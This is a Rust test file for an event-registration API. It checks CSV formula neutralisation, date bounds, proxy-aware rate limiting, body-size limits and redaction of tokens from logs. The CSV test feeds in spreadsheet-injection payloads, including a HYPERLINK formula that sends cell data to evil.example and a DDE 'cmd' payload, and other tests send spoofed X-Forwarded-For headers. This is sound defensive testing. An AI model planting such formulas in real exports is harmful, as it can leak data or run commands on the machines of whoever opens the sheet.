//! Hardening: formula-safe CSV, bounded event times, proxy-aware rate limiting,
//! redacted request logs, `Retry-After` that is long enough, and 413s for large bodies.

use std::fs::File;
use std::io::{Read, Write};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use reqwest::Method;
use serde_json::{json, Value};

use crate::helpers::{id, read, spawn, spawn_with, Resp, Running, TestApp, TestDb};

/// The first characters that make a spreadsheet program read a cell as a formula.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

async fn import(app: &TestApp, event: &str, body: impl Into<reqwest::Body>) -> Resp {
    let res = app
        .client
        .post(format!("{}/api/v1/events/{event}/registrations/import", app.base))
        .bearer_auth(&app.organiser)
        .header("content-type", "text/csv")
        .body(body)
        .send()
        .await
        .unwrap();
    read(res).await
}

fn csv_rows(text: &str) -> Vec<csv::StringRecord> {
    let mut reader = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    reader.records().map(|r| r.unwrap()).collect()
}

#[tokio::test]
async fn csv_export_neutralises_formulas_and_keeps_values_as_typed() {
    let app = spawn().await;
    let ev = app.open_event(json!({ "public_registration": true })).await;
    let payloads = [
        r#"=HYPERLINK("http://evil.example/?d="&A2,"Click")"#,
        "+1+1",
        "-2+3",
        "@SUM(A1)",
    ];
    for (i, p) in payloads.iter().enumerate() {
        let r = app
            .register(
                &ev,
                json!({ "name": p, "email": format!("organiser{i}@x.cn"), "notes": p, "title": p }),
            )
            .await;
        assert_eq!(r.status, 201, "{}", r.text);
        assert_eq!(r.body["contact"]["name"], *p, "the API keeps the value as typed");
    }
    let public = app
        .send(
            Method::POST,
            &format!("/api/v1/public/events/{ev}/registrations"),
            None,
            Some(json!({ "name": "=cmd|' /C calc'!A0", "email": "anon@x.cn", "company_name": "@evil", "phone": "+86 21 1234" })),
            &[],
        )
        .await;
    assert_eq!(public.status, 202, "{}", public.text);

    let export = app.get(&format!("/api/v1/events/{ev}/registrations.csv")).await;
    assert_eq!(export.status, 200);
    let rows = csv_rows(&export.text);
    assert_eq!(rows.len(), 5);
    for row in &rows {
        for cell in row.iter() {
            assert!(
                !cell.starts_with(FORMULA_STARTS),
                "cell {cell:?} would run as a formula: {}",
                export.text
            );
        }
    }
    let names: Vec<&str> = rows.iter().map(|r| &r[0]).collect();
    for p in payloads {
        assert!(
            names.contains(&format!("'{p}").as_str()),
            "{p} not neutralised: {names:?}"
        );
    }
    assert!(names.contains(&"'=cmd|' /C calc'!A0"));
    assert!(export.text.contains("'+86 21 1234"));

    // Import takes values as typed, except that the quote the export added comes off
    // again, so an exported sheet imports as it was entered.
    let other = app.open_event(json!({})).await;
    let r = import(
        &app,
        &other,
        "name,email,phone,notes\n=2+2,typed@x.cn,'+86 21 1234,'plain\n",
    )
    .await;
    assert_eq!(r.body["created"], 1, "{}", r.text);
    let reg = app.get(&format!("/api/v1/events/{other}/registrations")).await;
    assert_eq!(reg.body["items"][0]["contact"]["name"], "=2+2", "{}", reg.text);
    assert_eq!(reg.body["items"][0]["contact"]["phone"], "+86 21 1234", "{}", reg.text);
    assert_eq!(reg.body["items"][0]["notes"], "'plain", "{}", reg.text);
}

#[tokio::test]
async fn import_reports_spreadsheet_rows_and_file_lines_past_multiline_cells() {
    let app = spawn().await;
    let ev = app.open_event(json!({})).await;
    // Line 1 header; row 2 spans lines 2–4; line 5 is blank (row 3 in a spreadsheet);
    // row 4 (line 6) is invalid; row 5 (line 7) is fine.
    let file = "name,email,notes\n\
                王伟,wang@x.cn,\"第一行\n第二行\n第三行\"\n\
                \n\
                赵六,not-an-email,\n\
                孙七,sun@x.cn,\n";
    let r = import(&app, &ev, file).await;
    assert_eq!(r.status, 200, "{}", r.text);
    let rows: Vec<(Value, Value, Value)> = r.body["rows"]
        .as_array()
        .unwrap()
        .iter()
        .map(|row| (row["row"].clone(), row["line"].clone(), row["outcome"].clone()))
        .collect();
    assert_eq!(
        rows,
        vec![
            (json!(2), json!(2), json!("created")),
            (json!(4), json!(6), json!("invalid")),
            (json!(5), json!(7), json!("created")),
        ],
        "{}",
        r.text
    );
}

/// Creates an event from `body` and returns the response.
async fn create_event(app: &TestApp, fields: Value) -> Resp {
    let mut body =
        json!({ "title": "Forum", "city": "福州", "timezone": "Asia/Shanghai", "starts_at": "2024-03-04T14:00:00" });
    crate::helpers::merge(&mut body, fields);
    app.post("/api/v1/events", body).await
}

#[tokio::test]
async fn event_times_outside_1900_to_2200_are_refused() {
    let app = spawn().await;
    for (field, value) in [
        ("starts_at", "1899-12-31T12:00:00"),
        ("starts_at", "-10000-01-01T00:00:00"),
        ("starts_at", "2201-01-01T00:00:00Z"),
        ("ends_at", "2300-01-01T00:00:00"),
        ("registration_closes_at", "1000-01-01T00:00:00+08:00"),
    ] {
        let r = create_event(&app, json!({ field: value })).await;
        r.assert_problem(422);
        assert_eq!(r.error_fields(), vec![field.to_string()], "{value}: {}", r.text);
        assert!(r.text.contains("1900") && r.text.contains("2200"), "{}", r.text);
    }
    // The edges themselves are fine.
    let early = create_event(&app, json!({ "timezone": "UTC", "starts_at": "1900-01-01T00:00:00" })).await;
    assert_eq!(early.status, 201, "{}", early.text);
    let late = create_event(&app, json!({ "starts_at": "2200-12-31T23:00:00+00:00" })).await;
    assert_eq!(late.status, 201, "{}", late.text);
    assert_eq!(late.body["starts_at"], "2201-01-01T07:00:00+08:00");

    let ev = id(&app.event(json!({})).await);
    let r = app
        .patch(
            &format!("/api/v1/events/{ev}"),
            json!({ "starts_at": "9999-01-01T00:00:00" }),
        )
        .await;
    r.assert_problem(422);
    assert_eq!(r.error_fields(), vec!["starts_at"]);

    for (field, value) in [
        ("from", "1800-01-01"),
        ("to", "2500-01-01T00:00:00Z"),
        ("from", "2024-06-30T23:59:60Z"),
    ] {
        let r = app.get(&format!("/api/v1/events?{field}={value}")).await;
        r.assert_problem(422);
        assert_eq!(r.error_fields(), vec![field.to_string()], "{}", r.text);
    }
}

#[tokio::test]
async fn leap_seconds_are_refused() {
    let app = spawn().await;
    for value in [
        "2016-12-31T23:59:60Z",
        "2017-01-01T07:59:60+08:00",
        "2017-01-01T07:59:60",
        "2017-01-01T07:59:60.5",
    ] {
        let r = create_event(&app, json!({ "starts_at": value })).await;
        r.assert_problem(422);
        assert_eq!(r.error_fields(), vec!["starts_at"], "{value}: {}", r.text);
        assert!(r.text.contains("leap second"), "{}", r.text);
    }
}

#[tokio::test]
async fn local_mean_time_offsets_never_reach_a_response() {
    let app = spawn().await;
    // The tz database gives Shanghai local mean time (+08:05:43) until 1901: no offset
    // RFC 3339 can write, so such an instant is refused rather than shown as +08:06.
    let lmt = create_event(&app, json!({ "starts_at": "1900-01-01T12:00:00" })).await;
    lmt.assert_problem(422);
    assert!(lmt.text.contains("local mean time"), "{}", lmt.text);
    let lmt = create_event(&app, json!({ "starts_at": "1900-06-01T12:00:00+08:00" })).await;
    lmt.assert_problem(422);
    // From 1901 Shanghai keeps +08:00, which round-trips.
    let ok = create_event(&app, json!({ "starts_at": "1901-01-01T12:00:00" })).await;
    assert_eq!(ok.status, 201, "{}", ok.text);
    assert_eq!(ok.body["starts_at"], "1901-01-01T12:00:00+08:00");
    let again = app.get(&format!("/api/v1/events/{}", id(&ok.body))).await;
    assert_eq!(again.body["starts_at"], "1901-01-01T12:00:00+08:00");
}

async fn public_get(app: &TestApp, forwarded_for: &str) -> u16 {
    let url = format!("/api/v1/public/events/{}", uuid::Uuid::nil());
    app.send(Method::GET, &url, None, None, &[("x-forwarded-for", forwarded_for)])
        .await
        .status
}

#[tokio::test]
async fn rotating_the_leftmost_forwarded_address_does_not_escape_the_limit() {
    let app = spawn_with(|s| {
        s.rate_limit.public_per_minute = 3;
        s.rate_limit.trust_forwarded_for = true;
    })
    .await;
    for i in 0..3 {
        assert_eq!(public_get(&app, &format!("10.0.0.{i}, 203.0.113.7")).await, 404);
    }
    assert_eq!(public_get(&app, "10.0.0.99, 203.0.113.7").await, 429);
    assert_eq!(public_get(&app, "203.0.113.7").await, 429);
    // Another client, as the proxy saw it, has its own allowance.
    assert_eq!(public_get(&app, "10.0.0.1, 203.0.113.8").await, 404);
}

#[tokio::test]
async fn with_two_proxies_the_second_address_from_the_right_is_the_client() {
    let app = spawn_with(|s| {
        s.rate_limit.public_per_minute = 3;
        s.rate_limit.trust_forwarded_for = true;
        s.rate_limit.trusted_proxies = 2;
    })
    .await;
    for i in 0..3 {
        assert_eq!(
            public_get(&app, &format!("10.0.0.{i}, 203.0.113.7, 192.0.2.{i}")).await,
            404
        );
    }
    assert_eq!(public_get(&app, "10.9.9.9, 203.0.113.7, 192.0.2.9").await, 429);
    assert_eq!(public_get(&app, "10.0.0.1, 203.0.113.8, 192.0.2.1").await, 404);
}

#[tokio::test]
async fn a_client_that_waits_retry_after_seconds_is_served() {
    // 40 a minute: one request back every 1.5 s, so the wait is never a whole second.
    let app = spawn_with(|s| s.rate_limit.public_per_minute = 40).await;
    let url = format!("/api/v1/public/events/{}", uuid::Uuid::nil());
    let mut limited = None;
    for _ in 0..45 {
        let r = app.send(Method::GET, &url, None, None, &[]).await;
        if r.status == 429 {
            limited = Some(r);
            break;
        }
    }
    let limited = limited.expect("the limit was never reached");
    let wait: u64 = limited.header("retry-after").unwrap().parse().unwrap();
    assert!(wait >= 1);
    tokio::time::sleep(Duration::from_secs(wait)).await;
    let again = app.send(Method::GET, &url, None, None, &[]).await;
    assert_eq!(again.status, 404, "refused after waiting Retry-After: {}", again.text);
}

#[tokio::test]
async fn oversized_json_bodies_are_413_problems() {
    let app = spawn().await;
    // Organiser routes take up to 1 MiB of JSON.
    let big = "x".repeat(1024 * 1024 + 1);
    let r = app
        .post("/api/v1/events", json!({ "title": "t", "summary": big }))
        .await;
    r.assert_problem(413);
    assert!(r.body["detail"].as_str().unwrap().contains("1048576"), "{}", r.text);

    // Public routes take 16 KiB.
    let ev = app.open_event(json!({ "public_registration": true })).await;
    let url = format!("/api/v1/public/events/{ev}/registrations");
    let r = app
        .send(
            Method::POST,
            &url,
            None,
            Some(json!({ "name": "x".repeat(17 * 1024), "email": "big@x.cn" })),
            &[],
        )
        .await;
    r.assert_problem(413);
    assert!(r.body["detail"].as_str().unwrap().contains("16384"), "{}", r.text);
    let small = app
        .send(
            Method::POST,
            &url,
            None,
            Some(json!({ "name": "Small", "email": "small@x.cn" })),
            &[],
        )
        .await;
    assert_eq!(small.status, 202, "{}", small.text);
}

/// Sends a chunked request (no Content-Length) by hand and returns the status and body.
fn chunked_post(base: &str, path: &str, token: Option<&str>, content_type: &str, chunks: usize) -> (u16, String) {
    let addr = base.trim_start_matches("http://");
    let mut s = std::net::TcpStream::connect(addr).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(30))).unwrap();
    let auth = token
        .map(|t| format!("Authorization: Bearer {t}\r\n"))
        .unwrap_or_default();
    write!(
        s,
        "POST {path} HTTP/1.1\r\nHost: {addr}\r\nContent-Type: {content_type}\r\n{auth}\
         Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n"
    )
    .unwrap();
    let chunk = "a".repeat(4096);
    for _ in 0..chunks {
        // The server may answer and close before everything is sent.
        if write!(s, "{:x}\r\n{chunk}\r\n", chunk.len()).is_err() {
            break;
        }
    }
    let _ = write!(s, "0\r\n\r\n");
    let mut answer = String::new();
    let _ = s.read_to_string(&mut answer);
    let status = answer
        .split_whitespace()
        .nth(1)
        .and_then(|c| c.parse().ok())
        .unwrap_or(0);
    (status, answer)
}

#[tokio::test]
async fn oversized_streamed_bodies_are_413_problems() {
    let app = spawn().await;
    let ev = app.open_event(json!({ "public_registration": true })).await;
    let (status, answer) = chunked_post(
        &app.base,
        &format!("/api/v1/public/events/{ev}/registrations"),
        None,
        "application/json",
        8,
    );
    assert_eq!(status, 413, "{answer}");
    assert!(answer.contains("application/problem+json"), "{answer}");
    let (status, answer) = chunked_post(
        &app.base,
        &format!("/api/v1/events/{ev}/registrations/import"),
        Some(&app.organiser),
        "text/csv",
        10 * 256 + 1,
    );
    assert_eq!(status, 413, "{answer}");
    assert!(answer.contains("application/problem+json"), "{answer}");
}

#[tokio::test]
async fn csv_imports_over_10_mib_are_413_problems() {
    let app = spawn().await;
    let ev = app.open_event(json!({})).await;
    let mut file = String::from("name,email\n");
    while file.len() <= 10 * 1024 * 1024 {
        file.push_str("Someone With A Long Name,someone@example.com\n");
    }
    let r = import(&app, &ev, file).await;
    r.assert_problem(413);
    assert!(r.body["detail"].as_str().unwrap().contains("10485760"), "{}", r.text);
}

#[tokio::test]
async fn manage_tokens_never_reach_the_request_log() {
    let db = TestDb::new();
    let dir = tempfile::tempdir().unwrap();
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let token_file = dir.path().join("admin-token");
    let log = dir.path().join("serve.log");
    // Killed if the test fails while it runs.
    let mut child = Running(
        Command::new(env!("CARGO_BIN_EXE_roadshow"))
            .arg("serve")
            .current_dir(dir.path())
            .env("DATABASE_URL", &db.url)
            .env_remove("ROADSHOW_ENV")
            .env("ROADSHOW__SERVER__PORT", port.to_string())
            .env("ROADSHOW__AUTH__BOOTSTRAP_TOKEN_FILE", &token_file)
            .env("ROADSHOW__REMINDERS__POLL_INTERVAL_SECS", "1")
            .env("RUST_LOG", "debug")
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(File::create(&log).unwrap())
            .spawn()
            .unwrap(),
    );
    let base = format!("http://127.0.0.1:{port}");
    let client = reqwest::Client::new();
    let started = Instant::now();
    while client
        .get(format!("{base}/readyz"))
        .send()
        .await
        .map(|r| r.status() != 200)
        .unwrap_or(true)
    {
        assert!(started.elapsed() < Duration::from_secs(30), "serve did not start");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let admin = std::fs::read_to_string(&token_file).unwrap().trim().to_string();
    let event = client
        .post(format!("{base}/api/v1/events"))
        .bearer_auth(&admin)
        .json(&json!({ "title": "Forum", "city": "福州", "timezone": "Asia/Shanghai",
            "starts_at": "2030-03-04T14:00:00", "status": "scheduled", "public_registration": true }))
        .send()
        .await
        .unwrap();
    let event = read(event).await;
    assert_eq!(event.status, 201, "{}", event.text);
    let registered = client
        .post(format!("{base}/api/v1/public/events/{}/registrations", id(&event.body)))
        .json(&json!({ "name": "Chen", "email": "chen@x.cn" }))
        .send()
        .await
        .unwrap();
    assert_eq!(read(registered).await.status, 202);
    // The link arrives by email: the file transport's, written by serve's worker.
    let token = manage_token_from_outbox(&dir.path().join("data/outbox")).await;
    let paths = [
        format!("/api/v1/public/registrations/{token}"),
        format!("/api/v1/public/registrations/{token}/calendar.ics"),
        format!("/api/v1/public/registrations/{token}x"),
        format!("/api/v1/public/registrations/{token}/nowhere?x=1"),
        format!("/api/v1/public//registrations/{token}"),
        format!("/api/v1/public/registration/{token}"),
    ];
    for path in &paths {
        client.get(format!("{base}{path}")).send().await.unwrap();
        // 405 and 404 answers are logged as warnings, with their request's span.
        client.delete(format!("{base}{path}")).send().await.unwrap();
    }
    client
        .post(format!("{base}{}", paths[0].clone() + "/cancel"))
        .send()
        .await
        .unwrap();

    let _ = Command::new("kill").args(["-TERM", &child.0.id().to_string()]).status();
    let _ = child.0.wait();
    let logged = std::fs::read_to_string(&log).unwrap();
    assert!(
        logged.contains("/api/v1/public/registrations/"),
        "requests are logged: {logged}"
    );
    assert!(!logged.contains(&token), "the manage token reached the log: {logged}");
}

/// Waits for the first email in the file transport's folder and answers the manage
/// token its text carries.
async fn manage_token_from_outbox(dir: &std::path::Path) -> String {
    let started = Instant::now();
    loop {
        let files = std::fs::read_dir(dir).into_iter().flatten().flatten();
        for file in files.filter(|f| f.path().extension().is_some_and(|e| e == "eml")) {
            // A file still being written may not parse, or lack the link: look again.
            let raw = std::fs::read(file.path()).unwrap_or_default();
            let Some(text) = mailparse::parse_mail(&raw).ok().and_then(|m| plain_text(&m)) else {
                continue;
            };
            let marker = "/public/registrations/";
            if let Some(at) = text.find(marker) {
                let rest = &text[at + marker.len()..];
                return rest
                    .chars()
                    .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '-'))
                    .collect();
            }
        }
        assert!(
            started.elapsed() < Duration::from_secs(30),
            "no email with a manage link arrived"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

fn plain_text(part: &mailparse::ParsedMail) -> Option<String> {
    if part.ctype.mimetype == "text/plain" {
        return part.get_body().ok();
    }
    part.subparts.iter().find_map(plain_text)
}
